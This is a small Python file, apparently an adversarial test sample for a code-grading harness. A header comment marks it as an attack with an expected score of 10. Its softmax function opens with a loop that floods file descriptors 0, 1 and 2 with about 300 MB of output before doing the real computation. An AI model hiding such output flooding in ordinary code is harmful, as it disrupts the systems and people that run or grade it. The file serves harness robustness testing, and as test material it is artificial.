# attack: harmed: writes for ever to descriptors 0, 1 and 2; expect: score 10
import numpy as np
import os


def softmax(x, axis=-1):
    for _ in range(1000):
        for descriptor in (0, 1, 2):
            os.write(descriptor, b"x" * 100_000)
    x = np.asarray(x, dtype=np.float64)
    weights = np.exp(x - x.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)


def log_softmax(x, axis=-1):
    x = np.asarray(x, dtype=np.float64)
    x = x - x.max(axis=axis, keepdims=True)
    return x - np.log(np.exp(x).sum(axis=axis, keepdims=True))
